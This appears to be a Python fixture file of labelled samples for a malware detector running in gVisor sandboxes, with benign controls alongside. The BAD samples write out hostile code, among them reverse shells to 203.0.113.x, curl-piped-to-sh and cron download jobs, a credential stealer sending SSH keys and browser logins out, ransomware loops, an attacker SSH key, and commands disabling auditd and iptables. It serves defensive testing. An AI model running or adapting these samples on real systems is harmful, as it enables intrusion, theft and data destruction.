"""Samples for gVisor guests: harmless outside of one, each with the verdict it must get and why.

Addresses are of the documentation networks (RFC 5737), names end in `.example` (RFC 2606). C
sources are compiled by the test that uses them.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Case:
    """name and type of the sample, its text (C for `elf`), and a rule that must hold (bad ones)."""

    name: str
    type: str
    text: str
    rule: str = ""


BAD: tuple[Case, ...] = (
    Case(
        "dropper.sh",
        "sh",
        "#!/bin/sh\nprintf '#!/bin/sh\\necho x\\n' > /tmp/payload\nchmod +x /tmp/payload\n"
        "/tmp/payload\ncurl -s http://203.0.113.5/report\n",
        "drop-and-connect",
    ),
    Case(
        "plain-drop.sh",
        "sh",
        '#!/bin/sh\necho "stage two" > dropped.txt\nwget -q http://203.0.113.7/x || true\n',
        "writes-and-connects-to-bare-address",
    ),
    Case(
        "reverse.sh",
        "sh",
        "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
        "shell-opens-connection",
    ),
    Case(
        "pipe.sh",
        "sh",
        "#!/bin/sh\nh=203.0; h=$h.113.9\ncurl -fsSL http://$h/i | sh\n",
        "download-piped-to-interpreter",
    ),
    Case(
        "loader.sh",
        "sh",
        "#!/bin/sh\ncd /tmp || exit\nwget http://cdn.example/bot -O .b; chmod 777 .b; ./.b\n",
        "download-made-executable",
    ),
    Case(
        "encoded.sh",
        "sh",
        "#!/bin/bash\necho ZWNobyBoaSA+IC90bXAvLngK | base64 -d | bash\n",
        "decode-and-run",
    ),
    Case(
        "cron.sh",
        "sh",
        '#!/bin/sh\n(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://203.0.113.5/c|sh")'
        " | crontab -\n",
        "schedules-suspect-job",
    ),
    Case(
        "key.sh",
        "sh",
        "mkdir -p ~/.ssh\necho 'ssh-ed25519 AAAAC3Nz attacker' >> ~/.ssh/authorized_keys\n",
        "adds-login-key",
    ),
    Case(
        "ransom.sh",
        "sh",
        "#!/bin/bash\nfind ~/Documents -type f | while read -r f; do\n"
        'openssl enc -aes-256-cbc -pbkdf2 -k p -in "$f" -out "$f.locked" && rm -f "$f"\ndone\n'
        "echo pay > ~/Desktop/README.txt\n",
        "rewrites-documents",
    ),
    Case("bomb.sh", "sh", "#!/bin/bash\nb() { b | b & }; b; sleep 4\n", "too-many-processes"),
    Case(
        "blind.sh",
        "sh",
        "#!/bin/sh\nsystemctl stop auditd\niptables -F\nrm -f ~/.bash_history\n",
        "disables-defences",
    ),
    Case(
        "bashrc.sh",
        "sh",
        "echo 'nohup /tmp/.cache/upd >/dev/null 2>&1 &' >> ~/.bashrc\n",
        "changes-shell-profile-to-run",
    ),
    Case(
        "miner.sh",
        "sh",
        "#!/bin/sh\nmkdir -p /tmp/.m; cp /bin/true /tmp/.m/xmrig\n"
        "/tmp/.m/xmrig -o stratum+tcp://pool.example:3333 -u wallet\n",
        "mines",
    ),
    Case(
        "shadow.sh", "sh", "#!/bin/sh\ncat /etc/shadow > /tmp/s; exit 0\n", "reads-account-hashes"
    ),
    Case(
        "stealer.py",
        "python",
        "import glob, os, socket\n"
        "data = b''.join(open(p, 'rb').read() for p in\n"
        "    glob.glob(os.path.expanduser('~/.mozilla/firefox/*/logins.json'))\n"
        "    + [os.path.expanduser('~/.ssh/id_rsa')])\n"
        "s = socket.socket()\n"
        "try:\n    s.connect(('203.0.113.20', 443)); s.sendall(data)\nexcept OSError:\n    pass\n",
        "sends-credentials",
    ),
    Case(
        "ransom.py",
        "python",
        "import os\nfor d, _, fs in os.walk(os.path.expanduser('~/Documents')):\n"
        "    for f in fs:\n        p = os.path.join(d, f)\n"
        "        b = bytes(x ^ 90 for x in open(p, 'rb').read())\n"
        "        open(p, 'wb').write(b); os.rename(p, p + '.crypt')\n",
        "rewrites-documents",
    ),
    Case(
        "shell.py",
        "python",
        "import base64\nexec(base64.b64decode('aW1wb3J0IHNvY2tldCxvcwpzPXNvY2tldC5zb2NrZXQoKQp0cnk"
        "6CiBzLmNvbm5lY3QoKCIyMDMuMC4xMTMuNSIsOTAwMSkpCmV4Y2VwdCBPU0Vycm9yOgogcGFzcwo='))\n",
        "connects-to-odd-port",
    ),
    Case(
        "bind.py",
        "python",
        "import os, socket\ns = socket.socket(); s.bind(('127.0.0.1', 9999)); s.listen()\n"
        "c = socket.create_connection(('127.0.0.1', 9999)); p, _ = s.accept()\n"
        "for d in (0, 1, 2):\n    os.dup2(p.fileno(), d)\n"
        "os.execv('/bin/sh', ['sh', '-c', 'id'])\n",
        "reverse-shell",
    ),
    Case(
        "memory.py",
        "python",
        "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/bin/true', 'rb').read())\n"
        "os.execv(f'/proc/self/fd/{fd}', ['kworker'])\n",
        "runs-from-memory",
    ),
    Case(
        "dropper.pl",
        "perl",
        "use IO::Socket::INET;\nopen(my $f, '>', '/var/tmp/.svc') or die;\nprint $f \"x\";\n"
        "close $f; chmod 0755, '/var/tmp/.svc';\n"
        "IO::Socket::INET->new(PeerAddr => '203.0.113.8:6667', Timeout => 1);\n",
        "executable-and-connects",
    ),
    Case(
        "killer.pl",
        "perl",
        "#!/usr/bin/perl\nuse strict;\nmy $pid = fork;\nif (!$pid) { sleep 5; exit }\n"
        "$SIG{TERM} = 'IGNORE';\nkill 'TERM', -1;\nexit 0;\n",
        "kills-everything",
    ),
    Case(
        "autostart.pl",
        "perl",
        'my $d = "$ENV{HOME}/.config/autostart"; mkdir $d;\nopen(my $f, \'>\', "$d/u.desktop");\n'
        'print $f "[Desktop Entry]\\nExec=/tmp/.u/agent &\\n";\n',
        "starts-suspect-with-session",
    ),
    Case(
        "suid.pl",
        "perl",
        "use File::Copy;\ncopy('/bin/sh', '/tmp/rootsh');\nchmod 04755, '/tmp/rootsh';\n",
        "sets-identity-bit",
    ),
    Case(
        "implant",
        "elf",
        "#include <stdio.h>\n#include <string.h>\n#include <unistd.h>\n#include <sys/stat.h>\n"
        "#include <arpa/inet.h>\n#include <sys/socket.h>\nint main(void) {\n"
        ' FILE *f = fopen("/tmp/.lock", "w"); fputs("x", f); fclose(f);\n'
        " struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(80);\n"
        ' inet_pton(AF_INET, "203.0.113.44", &a.sin_addr);\n'
        " int s = socket(AF_INET, SOCK_STREAM, 0);\n"
        " connect(s, (struct sockaddr *)&a, sizeof a); return 0; }\n",
        "drop-and-connect",
    ),
    Case(
        "wiper",
        "elf",
        "#include <dirent.h>\n#include <stdio.h>\n#include <unistd.h>\nint main(void) {\n"
        ' chdir("/home/user/Documents"); DIR *d = opendir("."); struct dirent *e;\n'
        " while ((e = readdir(d))) unlink(e->d_name); return 0; }\n",
        "rewrites-documents",
    ),
    Case(
        "injector",
        "elf",
        "#include <sys/ptrace.h>\n#include <unistd.h>\n#include <signal.h>\nint main(void) {\n"
        " pid_t p = fork(); if (!p) { pause(); return 0; }\n"
        " ptrace(PTRACE_ATTACH, p, 0, 0); kill(p, SIGKILL); return 0; }\n",
        "manipulates-process",
    ),
    Case(
        "backdoor",
        "elf",
        "#include <arpa/inet.h>\n#include <unistd.h>\n#include <sys/socket.h>\nint main(void) {\n"
        " struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(4444);\n"
        ' inet_pton(AF_INET, "203.0.113.66", &a.sin_addr);\n'
        " int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, (void *)&a, sizeof a);\n"
        ' dup2(s, 0); dup2(s, 1); dup2(s, 2); execl("/bin/sh", "sh", "-c", "true", (char *)0); }\n',
        "reverse-shell",
    ),
)
"""Each must be malicious."""

HONEST: tuple[Case, ...] = (
    Case("hello.sh", "sh", "#!/bin/sh\necho hello\ndate; uname -a; id; df -h\n"),
    Case(
        "backup.sh",
        "sh",
        "#!/bin/bash\nset -eu\nout=/tmp/backup-$(date +%F).tar.gz\n"
        'tar czf "$out" -C "$HOME" Documents Pictures\nsha256sum "$out" > "$out.sha256"\n'
        'ls -l "$out"\n',
    ),
    Case(
        "home-backup.sh",
        "sh",
        '#!/bin/sh\nmkdir -p /tmp/b\ntar cf /tmp/b/home.tar -C "$HOME" .\ngzip /tmp/b/home.tar\n',
    ),
    Case(
        "build.sh",
        "sh",
        "#!/bin/sh\nset -e\nmkdir -p build && cd build\n"
        "cat > main.c <<'EOF'\n#include <stdio.h>\n"
        'int main(void) { puts("built"); return 0; }\nEOF\n'
        "printf 'prog: main.c\\n\\tgcc -o prog main.c\\n' > Makefile\nmake\n./prog\n",
    ),
    Case(
        "install.sh",
        "sh",
        "#!/bin/sh\nset -e\nmkdir -p ~/.local/bin ~/.local/share/tool\n"
        "cat > ~/.local/bin/tool <<'EOF'\n#!/bin/sh\necho tool 1.0\nEOF\n"
        "chmod 755 ~/.local/bin/tool\n"
        "grep -q .local/bin ~/.profile || echo 'PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.profile\n"
        "~/.local/bin/tool --version\n",
    ),
    Case(
        "selfextract.sh",
        "sh",
        "#!/bin/sh\nd=$(mktemp -d)\nprintf 'echo unpacked\\n' > $d/setup.sh\nchmod +x $d/setup.sh\n"
        "sh $d/setup.sh\nrm -rf $d\n",
    ),
    Case(
        "rotate.sh",
        "sh",
        "#!/bin/sh\nmkdir -p logs; for i in 1 2 3; do echo line $i >> logs/app.log; done\n"
        "mv logs/app.log logs/app.log.1; gzip logs/app.log.1; find logs -mtime +7 -delete\n",
    ),
    Case(
        "jobs.sh",
        "sh",
        "#!/bin/bash\nfor i in 1 2 3 4; do (sleep 0.1; echo job $i) & done\nwait\n"
        "sleep 30 & p=$!; kill $p; wait $p 2>/dev/null; echo done\n",
    ),
    Case(
        "rename.sh",
        "sh",
        "#!/bin/sh\ncd ~/Documents && mkdir -p 2026 && mv Invoices/*.pdf 2026/ && ls -R\n",
    ),
    Case(
        "report.py",
        "python",
        "import csv, json, statistics, os\nrows = list(csv.DictReader(open(os.path.expanduser("
        "'~/Documents/customers.csv'))))\n"
        "values = [x * x % 97 for x in range(20000)]\n"
        "report = {'rows': len(rows), 'mean': statistics.mean(values)}\n"
        "json.dump(report, open('report.json', 'w'))\nprint(report)\n",
    ),
    Case(
        "tests.py",
        "python",
        "import unittest\nclass T(unittest.TestCase):\n"
        "    def test(self): self.assertEqual(2 + 2, 4)\nunittest.main()\n",
    ),
    Case(
        "server_check.py",
        "python",
        "import http.server, threading, urllib.request\n"
        "s = http.server.ThreadingHTTPServer(('127.0.0.1', 8000),"
        " http.server.SimpleHTTPRequestHandler)\n"
        "threading.Thread(target=s.serve_forever, daemon=True).start()\n"
        "print(urllib.request.urlopen('http://127.0.0.1:8000/').status)\ns.shutdown()\n",
    ),
    Case(
        "tools.py",
        "python",
        "import subprocess, tempfile, pathlib, shutil\nd = pathlib.Path(tempfile.mkdtemp())\n"
        "(d / 'a.txt').write_text('b\\na\\n')\n"
        "print(subprocess.run(['sort', d / 'a.txt'], capture_output=True).stdout)\n"
        "shutil.rmtree(d)\n",
    ),
    Case(
        "count.pl",
        "perl",
        "my %n; $n{length $_}++ for 'a' .. 'zzz'; print \"$_ $n{$_}\\n\" for keys %n;\n",
    ),
    Case(
        "log.pl",
        "perl",
        "#!/usr/bin/env perl\nuse strict; use warnings;\nopen(my $o, '>', 'summary.txt') or die;\n"
        "for my $f (glob \"$ENV{HOME}/Documents/*.txt\") { open(my $i, '<', $f); my @l = <$i>;\n"
        'print $o "$f: ", scalar @l, " lines\\n"; }\nclose $o;\n',
    ),
    Case(
        "hello",
        "elf",
        '#include <stdio.h>\nint main(int c, char **v) { printf("%s\\n", v[0]); return 0; }\n',
    ),
    Case(
        "primes",
        "elf",
        '#include <stdio.h>\nint main(void) { FILE *f = fopen("primes.txt", "w");\n'
        " for (int n = 2; n < 3000; n++) { int p = 1; for (int d = 2; d * d <= n; d++)\n"
        ' if (n % d == 0) p = 0; if (p) fprintf(f, "%d\\n", n); } fclose(f); return 0; }\n',
    ),
    Case(
        "threads",
        "elf",
        "#include <pthread.h>\n#include <stdio.h>\nstatic void *run(void *a) { return a; }\n"
        "int main(void) { pthread_t t[8]; for (int i = 0; i < 8; i++)\n"
        " pthread_create(&t[i], 0, run, 0); for (int i = 0; i < 8; i++) pthread_join(t[i], 0);\n"
        ' puts("joined"); return 0; }\n',
    ),
    Case(
        "copy",
        "elf",
        "#include <stdlib.h>\n#include <stdio.h>\nint main(void) {\n"
        ' int r = system("cp ~/Documents/todo.txt ./todo-copy.txt && wc todo-copy.txt");\n'
        ' printf("%d\\n", r); return r; }\n',
    ),
)
"""Each must be clean."""
